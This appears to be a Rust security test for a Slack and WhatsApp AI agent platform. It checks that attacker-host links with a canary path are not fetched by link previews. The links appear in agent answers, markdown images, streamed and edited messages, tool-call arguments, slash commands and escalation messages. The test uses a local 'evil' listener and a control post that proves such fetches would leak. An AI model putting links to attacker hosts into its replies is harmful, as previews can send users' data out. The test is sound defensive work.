//! Addresses in what an agent says. A platform that shows previews fetches them, and so tells whoever listens there what stands
//! in them: nobody needs to press anything.

use serde_json::{Value, json};
use simulators::{
    ChannelSetup, Command, DeskSimulator, FaultKind, FaultRule, ModelOptions, SimulatedCall, SlackSimulator,
};

use crate::{
    house::{House, PATIENCE, Tenant},
    phones::{ADA as PHONE, Phones},
};

const ADA: &str = "UADA";
const CANARY: &str = "canary-4711";

/// Waits until the workspace shows the canary of this case; Slack writes an address on in blocks or in text.
async fn shown(slack: &SlackSimulator, team: &str, channel: &str, mark: &str) {
    let there = |slack: &SlackSimulator| {
        let entries = slack.transcript(team, channel, None);
        entries
            .iter()
            .any(|entry| entry.text.contains(mark) || format!("{:?}", entry.blocks).contains(mark))
            .then_some(())
    };
    let seen = slack.wait_until(PATIENCE, there).await;
    assert!(seen.is_some(), "{mark} is not in {:?}", slack.transcript(team, channel, None));
}

fn says(text: String, token_delay_ms: u64) -> ModelOptions {
    ModelOptions { answer: Some(text), token_delay_ms, ..ModelOptions::default() }
}

/// Every way an answer reaches Slack.
async fn answers(house: &House, acme: &Tenant<'_>, evil: &str) {
    let edited = ChannelSetup {
        team: acme.team.clone(),
        channel: "CEDITED".into(),
        streams: Some(false),
        ..ChannelSetup::default()
    };
    house.slack.set_channel(edited);
    let words = "Nothing is as long as what goes on and on. ".repeat(12);
    let long = (0..260).map(|n| format!("{n}. {evil}/long/{CANARY}\n\n")).collect::<String>();
    let cases = [
        ("CGENERAL", says(format!("{evil}/bare/{CANARY}"), 0), "bare/canary"),
        ("CGENERAL", says(format!("See [the bank]({evil}/label/{CANARY})."), 0), "label/canary"),
        ("CGENERAL", says(format!("![]({evil}/picture/{CANARY})"), 0), "picture/canary"),
        ("CGENERAL", says(format!("{evil}/first/{CANARY} {words}"), 25), "first/canary"),
        ("CGENERAL", says(format!("[the bank]({evil}/second/{CANARY}) {words}"), 25), "second/canary"),
        ("CGENERAL", says(format!("{words} {evil}/last/{CANARY}"), 25), "last/canary"),
        ("CEDITED", says(format!("{evil}/edited/{CANARY} {words}"), 25), "edited/canary"),
        ("CGENERAL", says(long, 0), "259. "),
    ];
    for (channel, options, mark) in cases {
        house.model.set_options(options);
        let asked = acme.asks(channel, ADA, "Where do I find it?");
        acme.finished(channel, &asked.thread_ts, 1).await;
        acme.inbox().await;
        shown(&house.slack, &acme.team, channel, mark).await;
    }
    // Without blocks, where Slack does not take them.
    house.slack.faults().add(FaultRule::once("chat.update", FaultKind::SlackError("invalid_blocks".into())));
    house.model.set_options(says(format!("{evil}/plain/{CANARY}"), 0));
    let asked = acme.asks("CGENERAL", ADA, "And now?");
    acme.finished("CGENERAL", &asked.thread_ts, 1).await;
    shown(&house.slack, &acme.team, "CGENERAL", "plain/canary").await;
    let methods: Vec<String> =
        house.slack.history(Some(&acme.team)).into_iter().filter_map(|entry| entry.method).collect();
    for method in ["chat.postMessage", "chat.update", "chat.startStream", "chat.appendStream", "chat.stopStream"] {
        assert!(methods.iter().any(|called| called == method), "{method} is not among {methods:?}");
    }
}

/// What a colleague is to agree to, and what was asked by a command.
async fn questions(house: &House, acme: &Tenant<'_>, evil: &str) {
    let tool = json!({
        "name": "open_ticket", "description": "Opens a ticket.", "class": "write", "method": "post",
        "url": "https://desk.example.com/tickets",
        "arguments": { "type": "object", "properties": { "title": { "type": "string" } }, "required": ["title"] },
    });
    let (status, made) = acme.asks_api("POST", "tools", tool).await;
    assert_eq!(status, 201, "{made}");
    acme.may_use(&[made["id"].as_str().expect("an id")]).await;
    let arguments = json!({ "title": format!("{evil}/approval/{CANARY}") }).to_string();
    let calls = vec![SimulatedCall { name: "open_ticket".into(), arguments }];
    house.model.set_options(ModelOptions { calls, ..ModelOptions::default() });
    acme.asks("CGENERAL", ADA, "Open a ticket for it.");
    shown(&house.slack, &acme.team, "CGENERAL", "approval/canary").await;
    house.model.set_options(says("I don't know.".into(), 0));
    let command = Command {
        team: acme.team.clone(),
        user: ADA.into(),
        channel: "CGENERAL".into(),
        command: "/konstruct".into(),
        text: format!("What is {evil}/command/{CANARY}?"),
    };
    assert_eq!(house.slack.command(&command).await.status, Some(200));
    shown(&house.slack, &acme.team, "CGENERAL", "command/canary").await;
}

/// On a phone, and at the desk that is told of it.
async fn phones(phones: &Phones, evil: &str) {
    let shop = phones.shop("shop").await;
    let token = "xoxb-simulated-shop";
    let made = shop.call("POST", "connections", json!({ "channel": "slack", "bot_token": token })).await;
    shop.call("PUT", "escalation-desk", json!({ "connection": made["id"], "channel": "CDESK" })).await;
    let team = simulators::team_of(token).expect("a workspace");
    phones.house.model.set_options(says(format!("{evil}/phone/{CANARY}"), 0));
    shop.hears(PHONE, "Where do I find it?");
    let answers = shop.answered(PHONE, 1).await;
    assert!(answers[0].contains("phone/canary"), "{answers:?}");
    shop.hears(PHONE, &format!("It is at {evil}/desk/{CANARY}. I want to talk to a human."));
    shown(&phones.house.slack, &team, "CDESK", "desk/canary").await;
}

#[tokio::test(flavor = "multi_thread")]
async fn attack_125_an_address_in_an_answer_is_fetched_by_nobody() {
    let place = Phones::open().await;
    let house = &place.house;
    house.start_orchestrator();
    let (acme, listener) = (house.tenant("acme").await, DeskSimulator::start().await.expect("a port is free"));
    let evil = format!("http://{}", listener.address);
    answers(house, &acme, &evil).await;
    questions(house, &acme, &evil).await;
    phones(&place, &evil).await;
    assert_eq!((house.slack.previewed(), place.whatsapp.previewed()), (Vec::new(), Vec::new()));
    assert_eq!(listener.asked(), [] as [String; 0], "nobody came");

    // Such a listener would have heard of it.
    let http = reqwest::Client::builder().no_proxy().build().expect("a client");
    let loud = json!({ "channel": "CGENERAL", "text": format!("{evil}/control/{CANARY}"), "unfurl_links": false });
    let posted = http.post(format!("{}chat.postMessage", house.slack.api_url()));
    let posted = posted.bearer_auth("xoxb-simulated-acme").json(&loud).send().await.expect("an answer");
    let posted: Value = posted.json().await.expect("JSON");
    assert_eq!(posted["ok"], true, "{posted}");
    crate::house::eventually("the listener is asked", || {
        listener.asked().iter().any(|request| request.starts_with(&format!("GET /control/{CANARY} ")))
    })
    .await;
}
